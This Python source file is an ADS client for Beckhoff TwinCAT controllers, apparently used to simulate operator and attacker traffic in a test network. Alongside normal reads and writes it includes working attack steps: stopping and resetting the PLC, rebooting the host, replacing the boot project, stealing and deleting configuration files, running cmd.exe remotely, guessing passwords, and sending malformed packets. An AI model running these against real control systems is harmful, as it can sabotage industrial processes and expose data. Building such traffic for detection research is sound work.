"""A client of ADS in a process of its own, because pyads keeps one router for a whole process.

Run in a host's namespace: `ads_client.py OWN_ADDRESS CONTROLLER_ADDRESS DEED…`; the deeds are done one after another.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

import pyads  # type: ignore[import-untyped]  # a stack without types
from pyads import constants as ads
from pyads.pyads_ex import adsGetNetIdForPLC  # type: ignore[import-untyped]
from pyads.structs import SAdsSumRequest  # type: ignore[import-untyped]

SYSTEM_SERVICE, RUNTIME, NC = 10000, 851, 500
_REFUSED = (pyads.ADSError, RuntimeError, TimeoutError, struct.error)
FOPEN, FCLOSE, FREAD, FWRITE, FDELETE, FFILEFIND = 120, 121, 122, 123, 131, 133
_READ_BINARY, _WRITE_BINARY = 0x10011, 0x10012


class Client:
    """What an operator station or an attacker does with the controller."""

    def __init__(self, own: str, controller: str) -> None:
        self._own, self._controller = own, controller
        pyads.open_port()
        pyads.set_local_address(f"{own}.1.1")
        pyads.close_port()

    @contextlib.contextmanager
    def _port(self, port: int = RUNTIME) -> Iterator[pyads.Connection]:
        connection = pyads.Connection(f"{self._controller}.1.1", port, self._controller)
        connection.open()
        connection.set_timeout(2000)
        try:
            yield connection
        finally:
            connection.close()

    def identify(self) -> None:
        """Ask every port what it is and how it does."""
        for port in (SYSTEM_SERVICE, RUNTIME, 300, NC):
            with self._port(port) as plc, contextlib.suppress(*_REFUSED):
                plc.read_device_info()
                plc.read_state()
        with self._port(SYSTEM_SERVICE) as plc:
            plc.read(700, 1, _bytes(200), check_length=False)
            _call(plc, 200, 0, 12, rb"SOFTWARE\Beckhoff\TwinCAT3" + b"\0CurrentVersion\0")

    def symbols(self) -> None:
        """Upload the symbol table, then use names."""
        with self._port() as plc:
            plc.read(0xF00F, 0, _bytes(24))
            size = struct.unpack("<6I", bytes(plc.read(0xF00F, 0, _bytes(24))))[1]
            plc.read(0xF00B, 0, _bytes(size))
            plc.read(0xF008, 0, ads.PLCTYPE_BYTE)
            for name in ("MAIN.Level", "MAIN.Counter", "MAIN.Recipe", "MAIN.Missing"):
                with contextlib.suppress(*_REFUSED):
                    _call(plc, 0xF004, 0, 81, name.encode() + b"\0")

    def names(self) -> None:
        """Read and write by name and by handle."""
        with self._port() as plc:
            for name in ("MAIN.Level", "MAIN.Speed", "MAIN.Running", "MAIN.Counter", "MAIN.Total", "MAIN.Setpoints"):
                kind = ads.PLCTYPE_INT * 4 if name == "MAIN.Setpoints" else None
                plc.read_by_name(name, kind)
            handle = plc.get_handle("MAIN.Speed")
            for speed in (1450, 1450, 1500):
                plc.write_by_name("MAIN.Speed", speed, ads.PLCTYPE_INT, handle=handle)
                plc.read_by_name("MAIN.Speed", ads.PLCTYPE_INT, handle=handle)
            plc.release_handle(handle)
            plc.read_by_name("GVL.Motor", ads.PLCTYPE_USINT * 12)
            for name in ("MAIN.Nothing", "MAIN.Level"):
                with contextlib.suppress(*_REFUSED):
                    plc.write_by_name(name, 41.5, ads.PLCTYPE_REAL)
            with contextlib.suppress(*_REFUSED):
                plc.read(0xF005, 0x7777, ads.PLCTYPE_INT)

    def memory(self) -> None:
        """Read and write flags, inputs, outputs and data by address."""
        with self._port() as plc:
            for group, offset, kind in (
                (0x4020, 100, ads.PLCTYPE_BYTE), (0x4020, 100, ads.PLCTYPE_UINT), (0x4020, 4, ads.PLCTYPE_UDINT),
                (0x4020, 8, ads.PLCTYPE_ULINT), (0x4020, 10, _bytes(10)), (0x4021, 99, ads.PLCTYPE_BYTE),
                (0xF020, 0, ads.PLCTYPE_UINT), (0xF021, 15, ads.PLCTYPE_BYTE), (0xF030, 0, ads.PLCTYPE_BYTE),
                (0xF031, 1, ads.PLCTYPE_BYTE), (0x4040, 4, ads.PLCTYPE_UINT), (0x4040, 30, _bytes(7)),
                (0x4020, 2000, ads.PLCTYPE_BYTE), (0x9999, 1, ads.PLCTYPE_BYTE),
            ):  # fmt: skip
                with contextlib.suppress(*_REFUSED):
                    plc.read(group, offset, kind)
            plc.write(0x4020, 50, 0xBEEF, ads.PLCTYPE_UINT)
            plc.write(0x4021, 401, True, ads.PLCTYPE_BOOL)
            plc.write(0xF030, 0, 255, ads.PLCTYPE_BYTE)
            for _ in range(3):
                plc.read(0x4020, 50, ads.PLCTYPE_UINT)
            with contextlib.suppress(*_REFUSED):
                plc.write(0xF020, 0, 1, ads.PLCTYPE_BYTE)
            plc.read_write(0x4020, 60, ads.PLCTYPE_UINT, 513, ads.PLCTYPE_UINT)

    def sums(self) -> None:
        """Use every sum command."""
        with self._port() as plc:
            plc.read_list_by_name(["MAIN.Level", "MAIN.Speed", "MAIN.Running"])
            plc.write_list_by_name({"MAIN.Speed": 1480, "MAIN.Running": 1})
            places = struct.pack("<6I", 0x4020, 4, 2, 0x4020, 5000, 2)
            _call(plc, 0xF080, 2, 12, places)
            _call(plc, 0xF083, 2, 20, places)
            _call(plc, 0xF084, 2, 18, places)
            both = struct.pack("<8I", 0xF003, 0, 4, 11, 0xF003, 0, 4, 9) + b"MAIN.Level\0MAIN.Gone"
            handle = struct.unpack("<4I4s", _call(plc, 0xF082, 2, 20, both))[4]
            _call(plc, 0xF080, 1, 8, struct.pack("<I", 0xF005) + handle + struct.pack("<I", 4))
            _call(plc, 0xF081, 2, 8, struct.pack("<6I", 0x4020, 20, 2, 0xF020, 0, 1) + b"\x11\x22\x33")
            watch = struct.pack("<6I16s", 0x4040, 4, 2, 4, 0, 1_000_000, b"") * 2
            handles = struct.unpack("<4I", _call(plc, 0xF085, 2, 16, watch))
            time.sleep(0.5)
            _call(plc, 0xF086, 2, 8, struct.pack("<2I", handles[1], 0xDEAD))
            _call(plc, 0xF086, 1, 4, struct.pack("<I", handles[3]))

    def watch(self) -> None:
        """Have values sent, cyclically and on change (times in ms)."""
        with self._port() as plc:
            attribute = pyads.NotificationAttrib(4, ads.ADSTRANS_SERVERCYCLE, max_delay=50, cycle_time=100)
            by_name = plc.add_device_notification("MAIN.Level", attribute, lambda *_: None)
            attribute = pyads.NotificationAttrib(2, ads.ADSTRANS_SERVERONCHA, cycle_time=100)
            by_place = plc.add_device_notification((0x4020, 6), attribute, lambda *_: None)
            time.sleep(1.2)
            plc.del_device_notification(*by_name)
            plc.del_device_notification(*by_place)

    def control(self) -> None:
        """Stop, start and reset the PLC; put TwinCAT into configuration mode and start it again."""
        for port, states in ((RUNTIME, (6, 5, 2)), (SYSTEM_SERVICE, (16, 2))):
            with self._port(port) as plc:
                for state in states:
                    plc.write_control(state, 0, 0, ads.PLCTYPE_INT)
                    plc.read_state()

    def stop(self) -> None:
        """Stop the PLC."""
        self._control(RUNTIME, 6)

    def start(self) -> None:
        """Start the PLC."""
        self._control(RUNTIME, 5)

    def reset(self) -> None:
        """Reset the PLC and restart TwinCAT."""
        self._control(RUNTIME, 2)
        self._control(SYSTEM_SERVICE, 2)

    def configuration(self) -> None:
        """Put TwinCAT into configuration mode."""
        self._control(SYSTEM_SERVICE, 16)

    def reboot(self) -> None:
        """Restart the computer."""
        self._control(SYSTEM_SERVICE, 12, 1)

    def _control(self, port: int, state: int, device: int = 0) -> None:
        with self._port(port) as plc:
            plc.write_control(state, device, 0, ads.PLCTYPE_INT)

    def files(self) -> None:
        """List, read, write and delete files; one is missing."""
        with self._port(SYSTEM_SERVICE) as plc:
            _call(plc, FFILEFIND, 1, 324, rb"C:\TwinCAT\3.1\Boot" + b"\\*\0")
            self._fetch(plc, rb"C:\TwinCAT\3.1\Boot\CurrentConfig.xml")
            self._put(plc, rb"C:\TwinCAT\3.1\Boot\Plc\Port_851.app", bytes(range(256)) * 8)
            with contextlib.suppress(*_REFUSED):
                self._fetch(plc, rb"C:\missing.txt")
            for _ in range(2):
                with contextlib.suppress(*_REFUSED):
                    _call(plc, FDELETE, 0x10000, 0, rb"C:\TwinCAT\3.1\Boot\Plc\Port_851.app" + b"\0")

    def boot(self) -> None:
        """Replace the boot project."""
        with self._port(SYSTEM_SERVICE) as plc:
            self._put(plc, rb"C:\TwinCAT\3.1\Boot\Plc\Port_851.app", bytes(range(256)) * 4)

    def steal(self) -> None:
        """Read the configuration out."""
        with self._port(SYSTEM_SERVICE) as plc:
            self._fetch(plc, rb"C:\TwinCAT\3.1\Boot\CurrentConfig.xml")

    def delete(self) -> None:
        """Delete the configuration."""
        with self._port(SYSTEM_SERVICE) as plc:
            _call(plc, FDELETE, 0x10000, 0, rb"C:\TwinCAT\3.1\Boot\CurrentConfig.xml" + b"\0")

    @staticmethod
    def _fetch(plc: pyads.Connection, path: bytes) -> None:
        handle = struct.unpack("<I", _call(plc, FOPEN, _READ_BINARY, 4, path + b"\0"))[0]
        for _ in range(3):  # pyads does not tell how much was read; the third piece of the configuration is short
            _call(plc, FREAD, handle, 512, b"")
        plc.write(FCLOSE, handle, [], _bytes(0))

    @staticmethod
    def _put(plc: pyads.Connection, path: bytes, content: bytes) -> None:
        handle = struct.unpack("<I", _call(plc, FOPEN, _WRITE_BINARY, 4, path + b"\0"))[0]
        for at in range(0, len(content), 1024):
            _call(plc, FWRITE, handle, 0, content[at : at + 1024])
        plc.write(FCLOSE, handle, [], _bytes(0))

    def system(self) -> None:
        """Write the registry, set the clock, run a program."""
        with self._port(SYSTEM_SERVICE) as plc:
            key = rb"SOFTWARE\Beckhoff\TwinCAT3\System" + b"\0AutoLogon\0\x01\0\0\0"
            plc.write(200, 0, list(key), _bytes(len(key)))
            clock = struct.pack("<8H", 2026, 11, 0, 29, 3, 15, 0, 0)
            plc.write(400, 1, list(clock), _bytes(16))
        self.process()

    def registry(self) -> None:
        """Change the registry."""
        with self._port(SYSTEM_SERVICE) as plc:
            key = rb"SOFTWARE\Beckhoff\TwinCAT3\System" + b"\0AutoLogon\0\x01\0\0\0"
            plc.write(200, 0, list(key), _bytes(len(key)))

    def process(self) -> None:
        """Run a program on the controller."""
        with self._port(SYSTEM_SERVICE) as plc:
            parts = (rb"C:\Windows\System32\cmd.exe", b"C:\\", b"/c whoami > C:\\out.txt")
            line = struct.pack("<3I", *map(len, parts)) + b"".join(part + b"\0" for part in parts)
            plc.write(500, 0, list(line), _bytes(len(line)))

    def clock(self) -> None:
        """Set the clock."""
        with self._port(SYSTEM_SERVICE) as plc:
            plc.write(400, 1, list(struct.pack("<8H", 2020, 1, 0, 1, 0, 0, 0, 0)), _bytes(16))

    def search(self) -> None:
        """Ask the controller who it is."""
        adsGetNetIdForPLC(self._controller)

    def route(self) -> None:
        """Add a route with the right password."""
        self._route("Administrator", "palletiser-7")

    def guess(self) -> None:
        """Try passwords until one fits, as nobody should."""
        for password in ("1", "admin", "beckhoff", "twincat", "administrator", "password"):
            self._route("Administrator", password)

    def _route(self, user: str, password: str) -> None:
        with contextlib.suppress(*_REFUSED):
            pyads.add_route_to_plc(f"{self._own}.1.1", self._own, self._controller, user, password, "ENGINEERING")

    def poll(self) -> None:
        """Do an operator station's normal work for a few seconds."""
        with self._port() as plc, self._port(SYSTEM_SERVICE) as system:
            level, speed = plc.get_handle("MAIN.Level"), plc.get_handle("MAIN.Speed")
            for turn in range(12):
                plc.read_by_name("MAIN.Level", ads.PLCTYPE_REAL, handle=level)
                plc.read(0x4020, 100, ads.PLCTYPE_UINT)
                _call(plc, 0xF080, 2, 11, struct.pack("<6I", 0x4040, 4, 2, 0x4040, 6, 1))
                if turn % 4 == 0:
                    system.read_state()
                    plc.write_by_name("MAIN.Speed", 1450 + turn, ads.PLCTYPE_INT, handle=speed)
                time.sleep(0.25)
            plc.release_handle(level)
            plc.release_handle(speed)

    def write(self) -> None:
        """Write a set-point and a flag."""
        with self._port() as plc:
            plc.write_by_name("MAIN.Speed", 3000, ads.PLCTYPE_INT)
            plc.write(0x4020, 100, 1, ads.PLCTYPE_BYTE)

    def outputs(self) -> None:
        """Write the output image."""
        with self._port() as plc:
            plc.write(0xF030, 0, 255, ads.PLCTYPE_BYTE)
            plc.write(0xF031, 9, True, ads.PLCTYPE_BOOL)

    def missing(self) -> None:
        """Ask for symbols and ports that do not exist."""
        with self._port() as plc:
            for number in range(8):
                with contextlib.suppress(*_REFUSED):
                    plc.get_handle(f"MAIN.Guess{number}")
        for port in range(852, 860):
            with self._port(port) as plc, contextlib.suppress(*_REFUSED):
                plc.read_state()

    def broken(self) -> None:
        """Say what no client says: wrong lengths, an unknown command, half a sum command (hand-made: no stack does)."""
        addresses = bytes([*map(int, self._controller.split(".")), 1, 1]) + struct.pack("<H", RUNTIME)
        addresses += bytes([*map(int, self._own.split(".")), 1, 1]) + struct.pack("<H", 40000)
        bodies = ((4, b""), (2, struct.pack("<II", 0x4020, 0)), (9, struct.pack("<4I", 0xF080, 9, 90, 0)), (77, b""))
        with socket.create_connection((self._controller, 48898)) as raw:
            for invoke, (command, body) in enumerate(bodies):
                ams = addresses + struct.pack("<HHIII", command, 4, len(body), 0, invoke + 1) + body
                raw.sendall(struct.pack("<HI", 0, len(ams)) + ams)
                time.sleep(0.3)
            ams = addresses + struct.pack("<HHIII", 4, 4, 9, 0, 9)
            raw.sendall(struct.pack("<HI", 0, len(ams)) + ams)
            time.sleep(0.3)


def _bytes(size: int) -> type:
    kind: type = ads.PLCTYPE_USINT * size
    return kind


def _call(plc: pyads.Connection, group: int, offset: int, size: int, data: bytes) -> bytes:
    value: object = list(data)
    if group == ads.ADSIGRP_SUMUP_READ:  # these two it takes in forms of its own
        value = (SAdsSumRequest * offset).from_buffer_copy(data)
    elif group == ads.ADSIGRP_SUMUP_WRITE:
        value = bytearray(data)
    reads, writes = _bytes(size) if size else None, _bytes(len(data)) if data else None
    answer = plc.read_write(group, offset, reads, value, writes, check_length=False)
    return bytes(answer or b"")


def main(own: str, controller: str, deeds: list[str]) -> None:
    """Do the deeds in order."""
    client = Client(own, controller)
    for deed in deeds:
        work: Callable[[], None] = getattr(client, deed)
        work()


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3:])
